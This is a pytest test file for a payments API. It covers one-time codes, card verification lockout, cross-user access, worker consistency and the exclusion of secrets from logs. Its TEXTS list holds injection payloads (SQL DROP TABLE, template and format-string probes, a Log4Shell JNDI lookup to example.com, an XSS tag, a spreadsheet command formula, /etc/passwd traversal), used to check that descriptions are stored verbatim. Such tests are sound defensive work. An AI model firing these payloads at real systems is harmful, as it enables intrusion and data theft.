"""Codes, cards, tokens beside the catalogue: what is right is taken, and nothing is logged."""

from __future__ import annotations

import asyncio
import json
import secrets

import pytest

from tests.house import House, new_key
from tests.http.doors import assert_refused, call, fresh_pan, raw_post
from tests.http.forging import Forger, ask, forger_of
from tests.http.logins import challenge, exchange, fresh_phone


@pytest.fixture(scope="module")
async def forger(house: House) -> Forger:
    return await forger_of(house)


async def test_a_forged_token_that_is_right_is_believed(house: House, forger: Forger) -> None:
    """What the rows of forged tokens rest on: nothing but their one fault refuses them."""
    reply = await ask(house, "list", b"Authorization: Bearer " + forger.token().encode())
    assert reply is not None
    assert reply.status == 200, reply.raw


async def test_a_code_belongs_to_its_challenge(house: House) -> None:
    """Another's code, and a challenge that never was."""
    first, _ = await challenge(house, fresh_phone())
    second, code = await challenge(house, fresh_phone())
    assert_refused(await exchange(house, first, code), 422, "otp-invalid")
    for made_up in ("chl_x", second[:-1], "chl_" + "0" * 26 + "_" + "0" * 16):
        assert_refused(await exchange(house, made_up, code), 400, "invalid-grant")
    # A parameter without a value is none (RFC 6749, 3.2).
    assert_refused(await exchange(house, "", code), 400, "invalid-request")
    assert (await exchange(house, second, code)).status == 200


async def test_a_code_is_not_sent_again_at_once(house: House) -> None:
    """Row 80."""
    phone = fresh_phone()
    await challenge(house, phone)
    reply = await call(house, "POST", "/v1/auth/challenges", {"phone": phone})
    assert_refused(reply, 429, "rate-limited")


async def test_a_cards_code_is_tried_thrice(house: House) -> None:
    """Rows 31 and 32 for a card; until it is active nothing can be paid from it."""
    token = house.user(33)["access_token"]
    body = {"pan": fresh_pan("98600901"), "expiry": "40-12"}
    added = await call(house, "POST", "/v1/cards", body, token=token)
    assert added.status == 201, added.raw
    card = added.body["id"]
    pay = house.purchase(33, "humo", 10_000) | {"source": {"card": card}}
    reply = await call(house, "POST", "/v1/payments", pay, token=token, key=new_key())
    assert_refused(reply, 409, "card-not-active")
    for _ in range(3):
        reply = await call(
            house, "POST", f"/v1/cards/{card}/verify", {"code": "000000"}, token=token
        )
        assert_refused(reply, 422, "otp-invalid")
    reply = await call(house, "POST", f"/v1/cards/{card}/verify", {"code": "000000"}, token=token)
    assert_refused(reply, 429, "otp-locked")
    # Row 30: another's card, and one that was removed.
    theirs = house.user(34)["access_token"]
    for method, path in (
        ("GET", f"/v1/cards/{card}"),
        ("DELETE", f"/v1/cards/{card}"),
        ("GET", f"/v1/limits?card={card}"),
    ):
        assert_refused(await call(house, method, path, token=theirs), 404, "not-found")
    assert (await call(house, "DELETE", f"/v1/cards/{card}", token=token)).status == 204
    assert_refused(await call(house, "GET", f"/v1/cards/{card}", token=token), 404, "not-found")
    reply = await call(house, "POST", "/v1/payments", pay, token=token, key=new_key())
    assert_refused(reply, 404, "not-found")


async def test_a_card_is_usable_everywhere_once_it_is_verified(house: House) -> None:
    """That it was refused before is remembered by no worker; each is asked, before and after."""
    user = house.user(32)
    token = user["access_token"]
    body = {"pan": fresh_pan("98600903"), "expiry": "40-12"}
    added = await call(house, "POST", "/v1/cards", body, token=token)
    assert added.status == 201, added.raw
    card = added.body["id"]
    pay = house.purchase(32, "humo", 10_000) | {"source": {"card": card}}

    async def pay_everywhere() -> list[str]:
        raw = json.dumps(pay).encode()
        replies = [
            house.send(
                raw_post(
                    house,
                    "/v1/payments/quote",
                    raw,
                    token=token,
                )
            )
            for _ in range(16)
        ]
        answers = [one for one in await asyncio.gather(*replies) if one is not None]
        return [one.code or str(one.status) for one in answers]

    assert await pay_everywhere() == ["card-not-active"] * 16
    path = f"/sandbox/v1/messages?to={user['phone'].replace('+', '%2B')}"
    code = (await call(house, "GET", path)).body["data"][0]["code"]
    verified = await call(house, "POST", f"/v1/cards/{card}/verify", {"code": code}, token=token)
    assert verified.status == 200, verified.raw
    assert await pay_everywhere() == ["200"] * 16
    assert (await call(house, "DELETE", f"/v1/cards/{card}", token=token)).status == 204


TEXTS = [
    "'; DROP TABLE payments; --",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "%s%n%x {0.__class__}",
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "=cmd()|' /C calc'!A0",
    "../../etc/passwd",
    "\U0001f4b3 \u045e\u0437\u0431\u0435\u043a\u0447\u0430 \u6f22 e\u0301",
    "\\u0000 \\n",
]


@pytest.mark.parametrize("text", TEXTS)
async def test_a_text_is_only_a_text(house: House, text: str) -> None:
    """Row 67: kept and given back as it came, to the last byte."""
    body = house.purchase(39, "humo", 100_000, description=text, metadata={"note": text})
    paid = await house.pay(39, body)
    assert paid.status == 201, paid.raw
    token = house.user(39)["access_token"]
    reply = await call(house, "GET", f"/v1/payments/{paid.body['id']}", token=token)
    assert (reply.body["description"], reply.body["metadata"]) == (text, {"note": text})


async def test_nothing_secret_was_logged(house: House) -> None:
    """Neither a number nor a token stands in any worker's log, whatever was done with them."""
    pan = fresh_pan("98600902")
    secret = "zq7" + secrets.token_hex(16)
    token = house.user(33)["access_token"]
    body = json.dumps({"pan": pan, "expiry": "20-01", "note": secret}).encode()
    assert_refused(await house.send(raw_post(house, "/v1/cards", body)), 422, "unknown-member")
    body = json.dumps({"pan": pan, "expiry": "20-01"}).encode()
    assert_refused(await house.send(raw_post(house, "/v1/cards", body)), 422, "invalid-expiry")
    bad = raw_post(house, "/v1/payments", b"{", token=secret)
    assert_refused(await house.send(bad), 401, "invalid-token")
    added = await call(house, "POST", "/v1/cards", {"pan": pan, "expiry": "40-12"}, token=token)
    assert added.status == 201, added.raw
    assert pan.encode() not in added.raw
    logs = list((house.data_dir / "logs").glob("worker-*.log"))
    assert logs, "the workers log"
    for path in logs:
        text = path.read_text()
        for kept in (pan, secret, token):
            assert kept not in text, f"{path.name} holds a secret"
